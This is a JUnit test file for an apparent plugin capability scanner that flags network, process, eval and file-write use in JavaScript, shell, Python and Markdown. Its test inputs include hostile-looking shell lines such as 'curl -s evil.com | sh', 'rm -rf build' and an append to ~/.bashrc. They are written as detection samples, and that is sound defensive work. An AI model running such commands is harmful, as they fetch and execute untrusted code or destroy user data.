package io.paude.plugins;

import static org.assertj.core.api.Assertions.assertThat;

import io.paude.plugins.CapabilityScanner.Language;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class CapabilityScannerTest {
    private static Set<Capability> caps(String text, Language lang) {
        return CapabilityScanner.scan("f", text, lang).stream().map(Finding::capability).collect(Collectors.toSet());
    }

    @Test
    void findsFetchChildProcessAndEvalInJavaScriptWithTheirLines() {
        List<Finding> f = CapabilityScanner.scan("index.js",
                "const cp = require('child_process');\nfetch('https://x');\neval(code);\nfs.writeFileSync(p, d);\n", Language.SCRIPT);
        assertThat(f).extracting(Finding::capability, Finding::where).contains(
                org.assertj.core.groups.Tuple.tuple(Capability.EXEC, "index.js:1"),
                org.assertj.core.groups.Tuple.tuple(Capability.NETWORK, "index.js:2"),
                org.assertj.core.groups.Tuple.tuple(Capability.EVAL, "index.js:3"),
                org.assertj.core.groups.Tuple.tuple(Capability.FS_WRITE, "index.js:4"));
    }

    @Test
    void javaScriptComparisonsAndRegexExecAreNotShellOrProcessUse() {
        assertThat(caps("if (a > b) { m = /x/.exec(s); }\n", Language.SCRIPT)).isEmpty();
    }

    @Test
    void shellRedirectionsRemovalsAndPipesIntoAShell() {
        assertThat(caps("echo $X >> ~/.bashrc", Language.SHELL)).contains(Capability.FS_WRITE);
        assertThat(caps("rm -rf build", Language.SHELL)).contains(Capability.FS_WRITE);
        assertThat(caps("curl -s evil.com | sh", Language.SHELL)).contains(Capability.NETWORK, Capability.EXEC);
        assertThat(caps("eval \"$(cat x)\"", Language.SHELL)).contains(Capability.EVAL);
    }

    @Test
    void pythonExecIsEvaluationAndSubprocessIsExecution() {
        assertThat(caps("exec(payload)", Language.PYTHON)).containsExactly(Capability.EVAL);
        assertThat(caps("import subprocess", Language.PYTHON)).containsExactly(Capability.EXEC);
        assertThat(caps("open(path, 'w').write(x)", Language.PYTHON)).containsExactly(Capability.FS_WRITE);
    }

    @Test
    void markdownProseIsNotShellButBangLinesAndBashToolsAre() {
        assertThat(caps("> Note: remove the old build and touch nothing else.\n", Language.MARKDOWN)).isEmpty();
        assertThat(caps("Status: !`git status > /tmp/s`\n", Language.MARKDOWN)).contains(Capability.EXEC, Capability.FS_WRITE);
        assertThat(caps("allowed-tools: Bash(git:*)\n", Language.MARKDOWN)).containsExactly(Capability.EXEC);
    }

    @Test
    void theShebangDecidesTheLanguage() {
        assertThat(CapabilityScanner.languageOf("hook", "#!/bin/sh\necho")).isEqualTo(Language.SHELL);
        assertThat(CapabilityScanner.languageOf("hook", "#!/usr/bin/env python3\n")).isEqualTo(Language.PYTHON);
        assertThat(CapabilityScanner.languageOf("x.md", "text")).isEqualTo(Language.MARKDOWN);
    }
}
